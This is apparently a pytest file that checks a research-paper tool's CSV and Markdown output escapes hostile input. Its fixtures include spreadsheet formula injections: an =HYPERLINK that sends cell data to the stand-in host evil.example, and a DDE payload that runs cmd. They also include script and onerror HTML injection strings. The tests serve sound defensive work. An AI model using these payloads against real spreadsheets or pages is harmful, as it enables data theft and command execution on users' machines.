"""Cells that other tools open stay inert: no spreadsheet formulas, no HTML on GitHub."""

import csv
import io

from evla_miner.commands.propose import print_proposals
from evla_miner.core.safe_output import csv_cell, md_text, md_url, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def test_text_that_would_start_a_formula_gets_a_quote_and_numbers_stay_numbers():
    assert [csv_cell(text) for text in FORMULAS[:-1]] == ["'" + text for text in FORMULAS[:-1]]
    assert csv_cell("\rx") == "'\nx"  # and the bare CR becomes a newline the writer quotes
    assert csv_cell("Fast VLA = good") == "Fast VLA = good"  # only the first character matters
    assert csv_cell(-0.5) == -0.5 and csv_cell(None) is None


def test_write_csv_neutralises_every_cell_and_round_trips_the_text():
    out = io.StringIO()
    write_csv(out, ["id", "title"], [{"id": "2510.1", "title": t, "extra": 1} for t in FORMULAS])
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["title"] for r in rows] == ["'" + t.replace("\r", "\n") for t in FORMULAS]


def test_propose_csv_writes_a_hostile_title_inert(capsys):
    proposal = {
        "id": "2510.10001",
        "title": '=HYPERLINK("http://evil.example","Fast VLA")',
        "score": -0.25,
        "relevance": 0.9,
        "influence": 0.0,
        "kind": "new",
        "leaf": "@leaf",
        "categories": [],
        "reasons": ["+cmd|' /C calc'!A0"],
        "link": "https://arxiv.org/abs/2510.10001",
    }
    print_proposals([proposal], "csv")
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["title"] == "'" + proposal["title"]
    assert row["leaf"] == "'@leaf" and row["reasons"] == "'+cmd|' /C calc'!A0"
    assert row["score"] == "-0.25"


def test_markdown_text_has_no_html_and_cannot_break_a_cell():
    hostile = '<script>alert(1)</script> <img src=x onerror="alert(2)"> R&D | [x]\nnext'
    assert md_text(hostile) == (
        '&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror="alert(2)"&gt; '
        r"R&amp;D \| \[x\] next"
    )
    assert md_text("&lt;") == "&amp;lt;"  # an entity in a title is shown, not decoded


def test_markdown_link_targets_cannot_close_the_link():
    assert md_url("https://doi.org/10.1016/S0140-6736(20)30183-5") == (
        "https://doi.org/10.1016/S0140-6736%2820%2930183-5"
    )
    assert md_url('https://x.org/a"><script>') == "https://x.org/a%22%3E%3Cscript%3E"
    assert md_url("https://www.semanticscholar.org/search?q=a+b%2C") == (
        "https://www.semanticscholar.org/search?q=a+b%2C"
    )
